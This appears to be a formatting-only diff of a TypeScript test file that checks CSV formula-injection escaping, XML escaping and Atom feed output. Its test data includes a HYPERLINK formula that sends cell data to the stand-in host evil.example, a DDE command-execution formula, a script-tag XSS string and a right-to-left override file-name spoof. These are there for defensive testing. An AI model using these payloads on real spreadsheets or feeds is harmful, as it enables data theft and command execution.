@@ -11,7 +11,15 @@ import { icsCalendar } from '../../src/domain/feeds/ics.ts';
 import { escapeXml } from '../../src/domain/xml.ts';
 import { strictXmlTexts as parseXmlStrict } from '../support/strict-xml.ts';
 
-const FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', "=cmd|' /C calc'!A0", '+SUM(1,2)', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1'];
+const FORMULAS = [
+  '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
+  "=cmd|' /C calc'!A0",
+  '+SUM(1,2)',
+  '-2+3',
+  '@SUM(1,2)',
+  '\t=1+1',
+  '\r=1+1',
+];
 
 describe('CSV', () => {
   it('prefixes every formula-looking text cell with an apostrophe, and leaves numbers and plain text alone', () => {
@@ -76,7 +84,9 @@ describe('iCalendar', () => {
 
 describe('Atom and XML', () => {
   it('replaces the characters XML 1.0 forbids and keeps the rest', () => {
-    expect(escapeXml('a\u0001b\u001Fc\uFFFEd\uFFFFe\uD800f\tg\nh😀<&>"\'')).toBe('a\uFFFDb\uFFFDc\uFFFDd\uFFFDe\uFFFDf\tg\nh😀&lt;&amp;&gt;&quot;&apos;');
+    expect(escapeXml('a\u0001b\u001Fc\uFFFEd\uFFFFe\uD800f\tg\nh😀<&>"\'')).toBe(
+      'a\uFFFDb\uFFFDc\uFFFDd\uFFFDe\uFFFDf\tg\nh😀&lt;&amp;&gt;&quot;&apos;',
+    );
   });
 
   it('writes a feed a strict XML parser reads, with the text given back', () => {
@@ -88,7 +98,16 @@ describe('Atom and XML', () => {
       selfLink: 'https://x.example/feed.atom',
       fallbackUpdated: '2026-03-13',
       lang: 'vi',
-      entries: [{ id: 'tag:x,2025:e1', title: hostile, updated: '2026-03-01', link: 'https://x.example/e1', summary: `line\r\nbreak ${hostile}`, lang: 'vi' }],
+      entries: [
+        {
+          id: 'tag:x,2025:e1',
+          title: hostile,
+          updated: '2026-03-01',
+          link: 'https://x.example/e1',
+          summary: `line\r\nbreak ${hostile}`,
+          lang: 'vi',
+        },
+      ],
     });
     const texts = parseXmlStrict(xml);
     const expected = 'Nhiệm vụ\uFFFD\uFFFD\uFFFD\uFFFD\uFFFD <script>alert(1)</script> & ]]> \u202Egnp.exe';
